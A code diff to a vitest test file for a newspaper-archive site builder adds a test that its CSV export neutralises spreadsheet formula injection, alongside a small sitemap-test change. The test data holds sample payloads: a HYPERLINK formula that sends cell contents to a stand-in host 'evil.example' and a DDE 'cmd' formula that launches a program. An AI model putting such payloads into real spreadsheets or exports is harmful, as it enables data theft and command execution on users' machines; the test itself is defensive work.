@@ -12,11 +12,11 @@ import fc from "fast-check";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { buildSite, SiteBuildError } from "../../src/site/build-site.ts";
 import { loadArchive } from "../../src/content/load-archive.ts";
-import { csvField } from "../../src/site/article-tables.ts";
+import { articleTables, csvField } from "../../src/site/article-tables.ts";
 import { atomDate, feedArticles, sitemapFiles, xmlEscape } from "../../src/site/feeds.ts";
 import { absoluteUrl, readSiteConfig, resolveSiteAddress, siteRoot } from "../../src/site/site-config.ts";
 import type { ArticleRecord, IssueRecord } from "../../src/types.ts";
-import type { SiteArticle } from "../../src/site/site-types.ts";
+import type { SiteArticle, SiteIssue } from "../../src/site/site-types.ts";
 
 const run = promisify(execFile);
 const ROOT = path.resolve(import.meta.dirname, "../..");
@@ -128,6 +128,28 @@ describe("articles.csv", () => {
     const cells = ['a,"b"', "c\nd", "", "普通"];
     expect(parseCsv(`${cells.map(csvField).join(",")}\r\n`)).toEqual([cells]);
   });
+
+  it("puts a ' before a cell a spreadsheet would run as a formula (= + - @ tab CR, as OWASP advises); the JSON stays exact", () => {
+    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"];
+    for (const f of formulas) {
+      const [cell] = parseCsv(`${csvField(f)}\r\n`)[0]!;
+      expect(cell).toBe(`'${f}`);
+    }
+    // Text that only contains those characters, or starts with a full-width one, is left as it is.
+    for (const s of ["安全生产=效益", "a-b", "——记劳模张三", "＝１", "2024-01-05"]) expect(csvField(s)).toBe(s);
+
+    // Through the writer of the data files: the CSV row is neutralised, the articles.json row is not.
+    const headline = "=HYPERLINK(\"http://evil.example\",\"劲旅\")";
+    const article = { ...issues[0]!.articles[0]!, index: 1, headline, unit: "@电解厂", authors: ["-张三"] };
+    const rec = { ...issues[0]!, articles: [article] } as IssueRecord;
+    const site = { paper: "jinlv", url: "/jinlv/2024-01-05/" } as unknown as SiteIssue;
+    const page = { index: 1, url: "/jinlv/2024-01-05/01/" } as unknown as SiteArticle;
+    const [json, csv] = articleTables([{ rec, site, articles: new Map([[1, page]]) }], PUBLIC);
+    const row = (JSON.parse(json!.body.toString("utf8")) as ArticleRecord[])[0]!;
+    expect([row.headline, row.unit, row.authors]).toEqual([headline, "@电解厂", ["-张三"]]);
+    const cells = parseCsv(csv!.body.toString("utf8").slice(1))[1]!;
+    expect([cells[3], cells[4], cells[5]]).toEqual(["'@电解厂", `'${headline}`, "'-张三"]);
+  });
 });
 
 describe("Atom feeds", () => {
@@ -180,7 +202,8 @@ describe("Atom feeds", () => {
 describe("sitemap.xml and robots.txt", () => {
   it("lists every HTML page of the build, and robots.txt points at it", () => {
     const pages = readdirSync(out, { recursive: true, encoding: "utf8" })
-      .filter((f) => f.endsWith(".html") && !f.startsWith("pagefind"))
+      // The 404 page answers at missing addresses: it is no page of the site's own (data-out.ts htmlPagePaths).
+      .filter((f) => f.endsWith(".html") && f !== "404.html" && !f.startsWith("pagefind"))
       .map((f) => PUBLIC + f.split(path.sep).join("/").replace(/index\.html$/, ""));
     const locs = tag(read("sitemap.xml"), "loc");
     expect(locs.sort()).toEqual(pages.sort());
